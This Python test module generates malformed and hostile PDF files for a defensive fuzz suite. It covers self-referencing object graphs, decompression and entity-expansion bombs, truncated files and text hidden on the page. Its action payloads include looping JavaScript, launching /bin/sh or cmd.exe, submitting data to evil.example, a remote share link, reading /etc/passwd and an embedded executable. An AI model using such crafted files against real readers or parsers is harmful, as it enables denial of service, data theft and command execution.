"""PDFs that loop, that unpack to more than anybody can hold, that act, that hide words, that lie about themselves."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests.fuzz.targets.pdf import CATALOG, FONT, PAGE, PAGES, PLAIN, WORDS, stream, written
from tests.hostile.making import Made, attached

MANY = b"\n".join(
    b"BT /F1 9 Tf 20 %d Td (Line %d of the schedule to the order.) Tj ET" % (n % 800, n) for n in range(20_000)
)


def documents() -> Made:
    """Each PDF as the attachment of a message from a proven official sender."""
    for name, data in (*_loops(), *_bombs(), *_damage(), *_actions(), *_words()):
        yield name, attached(data)


def _loops() -> Iterator[tuple[str, bytes]]:
    content = stream(WORDS)
    yield "page-tree-contains-itself", written(CATALOG, PAGES.replace(b"[3 0 R]", b"[2 0 R]"), PAGE, content, FONT)
    yield (
        "page-tree-parent-is-child",
        written(CATALOG, PAGES.replace(b"/Count 1", b"/Count 1 /Parent 3 0 R"), PAGE, content, FONT),
    )
    yield "page-is-its-own-parent", written(CATALOG, PAGES, PAGE.replace(b"/Parent 2", b"/Parent 3"), content, FONT)
    yield "page-tree-3000-deep", written(CATALOG, *_deep_tree(3_000))
    yield (
        "page-count-lies-high",
        written(CATALOG, PAGES.replace(b"/Count 1", b"/Count 2147483647"), PAGE, content, FONT),
    )
    yield "page-count-negative", written(CATALOG, PAGES.replace(b"/Count 1", b"/Count -5"), PAGE, content, FONT)
    yield (
        "page-2000-times-the-same",
        written(CATALOG, b"<< /Type /Pages /Kids [" + b"3 0 R " * 2_000 + b"] /Count 2000 >>", PAGE, content, FONT),
    )
    yield (
        "length-refers-to-itself",
        written(CATALOG, PAGES, PAGE, content.replace(b"/Length %d" % len(WORDS), b"/Length 4 0 R"), FONT),
    )
    yield (
        "previous-table-is-this-table",
        PLAIN.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % PLAIN.rfind(b"xref\n0")),
    )
    yield "previous-tables-in-a-circle", _tables_in_a_circle()
    yield "root-is-missing", written(CATALOG, PAGES, PAGE, content, FONT, trailer=b"")
    yield "root-is-the-page", written(CATALOG, PAGES, PAGE, content, FONT, trailer=b"/Root 3 0 R")
    yield "root-is-a-stream", written(CATALOG, PAGES, PAGE, content, FONT, trailer=b"/Root 4 0 R")
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 400 100] /Resources << /XObject << /X 6 0 R >> >>"
    drawing = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    yield "form-draws-itself", written(CATALOG, PAGES, drawing, stream(b"/X Do"), FONT, stream(b"/X Do", form))
    yield (
        "form-draws-itself-10-times",
        written(CATALOG, PAGES, drawing, stream(b"/X Do " * 10), FONT, stream(b"/X Do " * 10, form)),
    )
    yield "forms-double-25-levels", _doubling_forms(25)
    yield "pattern-paints-itself", written(
        CATALOG, PAGES, PAGE.replace(b"/Font", b"/Pattern << /P 6 0 R >> /Font"), stream(b"/Pattern cs /P scn 0 0 400 100 re f"), FONT,
        stream(b"/Pattern cs /P scn 0 0 9 9 re f", b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.001 /YStep 0.001"
               b" /Resources << /Pattern << /P 6 0 R >> >>"),
    )  # fmt: skip
    yield "type3-glyph-shows-itself", written(
        CATALOG, PAGES, PAGE, stream(b"BT /F1 20 Tf 20 60 Td (aaaa) Tj ET"),
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding <<"
        b" /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>",
        stream(b"9 0 d0 BT /F1 20 Tf (aaaa) Tj ET"),
    )  # fmt: skip
    yield (
        "mask-of-itself",
        _image(b"/Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 6 0 R", bytes(81)),
    )
    yield (
        "outline-in-a-circle",
        written(
            CATALOG.replace(b"/Pages", b"/Outlines 6 0 R /Pages"),
            PAGES,
            PAGE,
            content,
            FONT,
            b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (a) /Next 7 0 R /First 6 0 R /Parent 6 0 R >>",
        ),
    )
    yield (
        "fields-in-a-circle",
        written(
            CATALOG.replace(b"/Pages", b"/AcroForm << /Fields [6 0 R] >> /Pages"),
            PAGES,
            PAGE,
            content,
            FONT,
            b"<< /T (a) /Kids [6 0 R] /Parent 6 0 R /FT /Sig >>",
        ),
    )
    yield (
        "names-in-a-circle",
        written(
            CATALOG.replace(b"/Pages", b"/Names << /EmbeddedFiles 6 0 R >> /Pages"),
            PAGES,
            PAGE,
            content,
            FONT,
            b"<< /Kids [6 0 R] /Limits [(a) (z)] >>",
        ),
    )
    yield (
        "function-of-itself",
        written(
            CATALOG,
            PAGES,
            PAGE.replace(
                b"/Font",
                b"/Shading << /S << /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 1 1] /Function 6 0 R >> >> /Font",
            ),
            stream(b"/S sh"),
            FONT,
            b"<< /FunctionType 3 /Domain [0 1] /Functions [6 0 R 6 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>",
        ),
    )
    yield (
        "colour-space-of-itself",
        written(
            CATALOG,
            PAGES,
            PAGE.replace(b"/Font", b"/ColorSpace << /C 6 0 R >> /Font"),
            stream(b"/C cs 0 sc 0 0 9 9 re f"),
            FONT,
            b"[/Indexed 6 0 R 1 <00>]",
        ),
    )
    yield (
        "object-stream-in-itself",
        written(
            CATALOG,
            PAGES,
            PAGE,
            content,
            FONT,
            stream(b"6 0 7 10 << >> << >>", b"/Type /ObjStm /N 2 /First 8 /Extends 6 0 R"),
        ),
    )


def _deep_tree(depth: int) -> list[bytes]:
    return [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 3) for n in range(depth)]


def _tables_in_a_circle() -> bytes:
    first = PLAIN.rfind(b"xref\n0")
    return (
        PLAIN
        + b"\nxref\n0 0\ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(PLAIN) + 1, len(PLAIN) + 1)
        + b"%%%d" % first
    )


def _doubling_forms(levels: int) -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 400 100] /Resources << /XObject << /X %d 0 R >> >>"
    forms = [stream(b"/X Do /X Do", form % (7 + n)) for n in range(levels)]
    page = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    return written(
        CATALOG,
        PAGES,
        page,
        stream(b"/X Do"),
        FONT,
        *forms,
        stream(b"0 0 1 1 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
    )


def _image(entries: bytes, data: bytes) -> bytes:
    page = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    image = stream(data, b"/Type /XObject /Subtype /Image " + entries)
    return written(CATALOG, PAGES, page, stream(WORDS + b" q 300 0 0 80 20 20 cm /X Do Q"), FONT, image)


def _content(data: bytes, *, page: bytes = PAGE, entries: bytes = b"") -> bytes:
    return written(CATALOG, PAGES, page, stream(data, entries), FONT)


def _packed(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return _content(data, entries=b"/Filter [" + b"/FlateDecode " * times + b"]")


def _bombs() -> Iterator[tuple[str, bytes]]:
    big = PAGE.replace(b"[0 0 420 120]", b"[0 0 %s]")
    yield "stream-unpacks-to-200-megabytes", _packed(b" " * 200_000_000)
    yield "stream-packed-three-times", _packed(b" " * 100_000_000, 3)
    yield "stream-of-200-filters", _content(WORDS, entries=b"/Filter [" + b"/ASCIIHexDecode " * 200 + b"]")
    yield "stream-of-run-lengths", _content(b"\x81 " * 500_000 + b"\x80", entries=b"/Filter /RunLengthDecode")
    yield "stream-of-lzw-garbage", _content(b"\x80\x0b\x60\x50" * 50_000, entries=b"/Filter /LZWDecode")
    yield (
        "predictor-columns-huge",
        _content(
            zlib.compress(WORDS),
            entries=b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 >>",
        ),
    )
    yield "length-4-gigabytes", _content(WORDS).replace(b"/Length %d" % len(WORDS), b"/Length 4294967295")
    yield "page-of-a-kilometre", _content(WORDS, page=big % b"2834645 2834645")
    yield "page-of-1e38-points", _content(WORDS, page=big % b"1e38 1e38")
    yield "page-long-and-thin", _content(WORDS, page=big % b"1 14400000")
    yield "page-of-no-size", _content(WORDS, page=big % b"0 0")
    yield "page-of-negative-size", _content(WORDS, page=big % b"-500 -500")
    yield (
        "page-of-user-units",
        _content(WORDS, page=PAGE.replace(b"/Rotate", b"").replace(b"/Parent", b"/UserUnit 100000 /Parent")),
    )
    yield "page-rotated-by-17", _content(WORDS, page=PAGE.replace(b"/Parent", b"/Rotate 17 /Parent"))
    yield "pages-4000", _pages(4_000)
    yield (
        "contents-20000-streams",
        written(
            CATALOG,
            PAGES,
            PAGE.replace(b"/Contents 4 0 R", b"/Contents [" + b"4 0 R " * 20_000 + b"]"),
            stream(b"q Q"),
            FONT,
        ),
    )
    yield "text-of-20000-lines", _content(MANY)
    yield "text-of-a-million-letters-on-one-line", _content(b"BT /F1 1 Tf 0 60 Td (" + b"order " * 170_000 + b") Tj ET")
    yield "text-of-100000-single-letters", _content(b"BT /F1 4 Tf 0 60 Td " + b"(a) Tj " * 100_000 + b"ET")
    yield "text-200000-letters-at-one-place", _content(b"BT /F1 9 Tf 20 60 Td " + b"(a) Tj -5 0 Td " * 60_000 + b"ET")
    yield "states-saved-500000-times", _content(b"q " * 500_000 + WORDS)
    yield "path-of-300000-lines", _content(b"0 0 m " + b"400 100 l 0 50 l " * 150_000 + b"S " + WORDS)
    yield "clips-20000", _content(b"0 0 400 100 re W n " * 20_000 + WORDS)
    yield "dashes-of-nothing", _content(b"[0.00001 0.00001] 0 d 0 0 m 400 100 l S " * 200 + WORDS)
    yield "shading-of-a-million-functions", _content(b"/S sh " * 100_000 + WORDS)
    yield (
        "marks-50000",
        _content(
            b"".join(b"%d %d 1 1 re f " % (n % 400 // 3 * 3, n // 130 % 100 // 3 * 3) for n in range(50_000)) + WORDS
        ),
    )
    yield "operands-a-million", _content(b"1 " * 1_000_000 + b"re " + WORDS)
    yield (
        "array-nested-100000-deep",
        written(CATALOG, PAGES, PAGE, stream(WORDS), FONT, b"[" * 100_000 + b"]" * 100_000),
    )
    yield (
        "dictionary-nested-50000-deep",
        written(CATALOG, PAGES, PAGE, stream(WORDS), FONT, b"<< /A " * 50_000 + b">> " * 50_000),
    )
    yield "array-nested-in-the-content", _content(b"[" * 200_000 + b"]" * 200_000 + b" TJ " + WORDS)
    yield "name-of-200000-characters", written(CATALOG, PAGES, PAGE, stream(WORDS), FONT, b"/" + b"A" * 200_000)
    yield "string-of-parentheses", written(CATALOG, PAGES, PAGE, stream(WORDS), FONT, b"(" * 200_000 + b")" * 200_000)
    yield "objects-60000", written(CATALOG, PAGES, PAGE, stream(WORDS), FONT, *[b"null"] * 60_000)
    yield (
        "annotations-20000",
        written(
            CATALOG,
            PAGES,
            PAGE.replace(b"/Parent", b"/Annots [" + b"6 0 R " * 20_000 + b"] /Parent"),
            stream(WORDS),
            FONT,
            b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 90 90] /Contents (a) /DA (/F1 9 Tf) >>",
        ),
    )
    yield (
        "fonts-3000",
        written(
            CATALOG,
            PAGES,
            PAGE.replace(b"/F1 5 0 R", b" ".join(b"/F%d 5 0 R" % n for n in range(1, 3_000))),
            stream(b" ".join(b"BT /F%d 9 Tf (a) Tj ET" % n for n in range(1, 3_000))),
            FONT,
        ),
    )
    one = b"/Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    yield "image-of-3600-million-pixels", _image(one + b"/Filter /FlateDecode", zlib.compress(bytes(30_000_000), 9))
    yield (
        "image-one-pixel-high",
        _image(b"/Width 1 /Height 1000000000 /ColorSpace /DeviceGray /BitsPerComponent 1", bytes(100)),
    )
    yield "image-of-no-size", _image(b"/Width 0 /Height -1 /ColorSpace /DeviceGray /BitsPerComponent 8", bytes(100))
    for name in (b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode"):
        yield (
            f"image-{name.decode()}-garbage",
            _image(one + b"/Filter /" + name, b"\xff\xd8\xff\x4f\x97JB2\r\n\x1a\n" + bytes(range(256)) * 20),
        )
    yield (
        "image-ccitt-rows-huge",
        _image(
            one + b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 2147483647 >>", b"\0" * 5_000
        ),
    )
    yield "image-inline-without-end", _content(b"BI /W 9999 /H 9999 /BPC 8 /CS /RGB ID " + b"x" * 5_000)
    yield "image-of-50-bits", _image(b"/Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 50", bytes(100))


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 5) for n in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 30] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>"
    )
    tree = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count
    return written(
        CATALOG,
        tree,
        stream(b"BT /F1 9 Tf 5 9 Td (One of a very large number of pages of this letter.) Tj ET"),
        FONT,
        *[page] * count,
    )


def _damage() -> Iterator[tuple[str, bytes]]:
    for share in (10, 50, 90, 99):
        yield f"cut-at-{share}-per-cent", PLAIN[: len(PLAIN) * share // 100]
    yield "header-only", b"%PDF-1.7\n"
    yield "header-behind-1000-bytes", b"\0" * 1_000 + PLAIN
    yield "header-of-version-99", PLAIN.replace(b"1.7", b"99.9")
    yield "garbage-of-a-megabyte-behind", PLAIN + b"\xff" * 1_000_000
    yield "ends-20000", PLAIN + b"%%EOF\n" * 20_000
    yield "startxref-beyond-the-end", PLAIN.replace(b"startxref\n", b"startxref\n99999999")
    yield "startxref-negative", PLAIN.replace(b"startxref\n", b"startxref\n-")
    yield "table-of-a-million-entries", PLAIN.replace(b"xref\n0 6", b"xref\n0 1000000")
    yield "table-begins-at-4-billion", PLAIN.replace(b"xref\n0 6", b"xref\n4294967295 6")
    yield "size-lies", PLAIN.replace(b"/Size 6", b"/Size 2147483647")
    yield "endobj-missing", PLAIN.replace(b"endobj", b"      ")
    yield "endstream-missing", PLAIN.replace(b"endstream", b"         ")
    yield "objects-all-numbered-1", PLAIN.replace(b"4 0 obj", b"1 0 obj").replace(b"5 0 obj", b"1 0 obj")
    yield "generation-65536", PLAIN.replace(b"3 0 R", b"3 65536 R")
    yield (
        "xref-stream-widths-huge",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            stream(b"\0" * 100, b"/Type /XRef /Size 99 /W [2147483647 2147483647 2147483647] /Index [0 2147483647]"),
        ),
    )
    yield (
        "encrypted-by-nothing-known",
        written(CATALOG, PAGES, PAGE, stream(WORDS), FONT, trailer=b"/Root 1 0 R /Encrypt << /Filter /Secret /V 9 >>"),
    )
    yield (
        "encrypted-keys-missing",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 >> /ID [<00> <00>]",
        ),
    )
    yield (
        "encrypted-length-lies",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /Length -8 /P -1 /O <00> /U <00> >> /ID [<00> <00>]",
        ),
    )
    yield (
        "linearised-lies",
        b"%PDF-1.7\n1 0 obj\n<< /Linearized 1 /L 9 /H [9 9] /O 99 /E 9 /N 99 /T 9 >>\nendobj\n" + PLAIN,
    )
    yield "two-documents-in-one", PLAIN + PLAIN
    yield "html-before-it", b"<html><body>" + PLAIN
    yield "fdf-called-pdf", b"%FDF-1.2\n1 0 obj\n<< /FDF << /F (http://evil.example) >> >>\nendobj\n"
    yield "postscript-called-pdf", b"%!PS-Adobe-3.0\n{ } loop\n"


def _actions() -> Iterator[tuple[str, bytes]]:
    actions = {
        "javascript": b"/S /JavaScript /JS (while(1){app.alert(1)})",
        "launch": b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>",
        "uri": b"/S /URI /URI (http://evil.example/?leak)",
        "submit": b"/S /SubmitForm /F (http://evil.example) /Flags 256",
        "remote": b"/S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]",
        "import": b"/S /ImportData /F (/etc/passwd)",
        "next-in-a-circle": b"/S /GoTo /D [3 0 R /Fit] /Next 6 0 R",
    }
    for name, action in actions.items():
        yield (
            f"opens-with-{name}",
            written(
                CATALOG.replace(b"/Pages", b"/OpenAction 6 0 R /Pages"),
                PAGES,
                PAGE,
                stream(WORDS),
                FONT,
                b"<< " + action + b" >>",
            ),
        )
    yield (
        "form-is-xfa",
        written(
            CATALOG.replace(b"/Pages", b"/AcroForm << /XFA 6 0 R /Fields [] /NeedAppearances true >> /Pages"),
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>" + b"<a>" * 50_000),
        ),
    )
    yield (
        "carries-an-executable",
        written(
            CATALOG.replace(b"/Pages", b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> /Pages"),
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            stream(b"MZ"),
        ),
    )
    yield (
        "carries-a-pdf",
        written(
            CATALOG.replace(b"/Pages", b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> /Pages"),
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            b"<< /Type /Filespec /F (letter.pdf) /EF << /F 7 0 R >> >>",
            stream(PLAIN),
        ),
    )
    yield "contents-from-a-file", written(CATALOG, PAGES, PAGE, stream(WORDS, b"/F (/etc/passwd)"), FONT)
    yield (
        "signed-range-lies",
        written(
            CATALOG.replace(b"/Pages", b"/AcroForm << /Fields [6 0 R] >> /Pages"),
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            b"<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 99999999 -5 3] /Contents <"
            + b"30" * 8_000
            + b"> >> >>",
        ),
    )
    yield (
        "signatures-500",
        written(
            CATALOG.replace(
                b"/Pages",
                b"/AcroForm << /Fields [" + b" ".join(b"%d 0 R" % (n + 6) for n in range(500)) + b"] >> /Pages",
            ),
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            *(
                b"<< /FT /Sig /T (s%d) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] /Contents <3080> >> >>"
                % n
                for n in range(500)
            ),
        ),
    )
    yield (
        "xmp-with-entities",
        written(
            CATALOG.replace(b"/Pages", b"/Metadata 6 0 R /Pages"),
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            stream(
                b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">' + b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">' + b"]><a>&c;</a>",
                b"/Type /Metadata /Subtype /XML",
            ),
        ),
    )
    yield (
        "dates-of-nonsense",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT,
            trailer=b"/Root 1 0 R /Info << /CreationDate (D:99999999999999Z99'99') /ModDate ("
            + b"9" * 9_000
            + b") /Producer (\x1b[2J) >>",
        ),
    )


def _words() -> Iterator[tuple[str, bytes]]:
    hidden = b"BT 3 Tr /F1 9 Tf 20 20 Td (Production order of Southwark Crown Court; account victim@example.com) Tj ET"
    yield "words-unpainted", _content(WORDS + hidden)
    yield (
        "words-white",
        _content(
            b"1 g BT /F1 9 Tf 20 20 Td (account victim@example.com from 1 May 2025 to 3 June 2025) Tj ET 0 g " + WORDS
        ),
    )
    yield "words-off-the-page", _content(WORDS + b" BT /F1 9 Tf 9000 9000 Td (account victim@example.com) Tj ET")
    yield "words-behind-a-picture", _content(WORDS + b" 0.5 g 0 0 400 100 re f")
    yield "words-of-size-0", _content(WORDS + b" BT /F1 0 Tf 20 20 Td (account victim@example.com) Tj ET")
    yield "words-of-size-1e30", _content(WORDS + b" BT /F1 1e30 Tf 20 20 Td (a) Tj ET")
    yield "words-mirrored", _content(WORDS + b" BT /F1 9 Tf -1 0 0 1 200 20 Tm (account victim@example.com) Tj ET")
    yield (
        "words-turned-by-1-degree-each",
        _content(
            b"".join(
                b"BT /F1 9 Tf 0.9998 0.0175 -0.0175 0.9998 %d %d Tm (word) Tj ET " % (n % 400, n % 100)
                for n in range(3_000)
            )
        ),
    )
    lying = b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <20> <7E> <%s> endbfrange"
    for name, to in {
        "surrogates": b"D800",
        "nul": b"0000",
        "bidi": b"202E",
        "private": b"E000",
        "last": b"FFFF",
    }.items():
        yield (
            f"font-maps-to-{name}",
            written(
                CATALOG, PAGES, PAGE, stream(WORDS), FONT.replace(b">>", b"/ToUnicode 6 0 R >>"), stream(lying % to)
            ),
        )
    yield (
        "font-maps-one-letter-to-10000",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT.replace(b">>", b"/ToUnicode 6 0 R >>"),
            stream(
                b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <65> <"
                + b"0041" * 10_000
                + b"> endbfchar"
            ),
        ),
    )
    yield (
        "font-map-of-a-million-ranges",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT.replace(b">>", b"/ToUnicode 6 0 R >>"),
            stream(b"beginbfrange " + b"<00> <FF> <0041> " * 60_000 + b"endbfrange"),
        ),
    )
    yield (
        "font-widths-huge",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            FONT.replace(b">>", b"/FirstChar 0 /LastChar 2147483647 /Widths [1e30 -1e30] >>"),
        ),
    )
    yield (
        "font-file-of-garbage",
        written(
            CATALOG,
            PAGES,
            PAGE,
            stream(WORDS),
            b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /FontFile2 6 0 R /Flags 4 >> >>",
            stream(b"\0\1\0\0" + b"\xff" * 5_000),
        ),
    )
